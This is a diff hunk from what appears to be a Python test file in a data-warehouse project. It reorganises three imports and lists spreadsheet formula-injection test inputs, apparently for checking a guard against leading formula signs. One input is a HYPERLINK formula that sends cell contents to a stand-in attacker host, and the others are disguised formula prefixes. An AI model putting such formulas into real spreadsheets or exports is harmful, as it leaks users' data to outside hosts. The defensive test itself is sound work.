@@ -14,9 +14,9 @@ import sqlalchemy as sa
 from tests.cli.conftest import runner
 from tests.installations import ENGINES, installation, learn, rows
 from tests.workbooks import Grid, grid, inn, snils, submission, write
-from warehouse.listing import FORMULA_SIGNS
-from warehouse.reference import shipped_reference
-from warehouse.tables import tables_of
+from warehouse.findings.listing import FORMULA_SIGNS
+from warehouse.register.reference import shipped_reference
+from warehouse.tables.tables import tables_of
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1)', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\ufeff=1+1", "＝1+1",
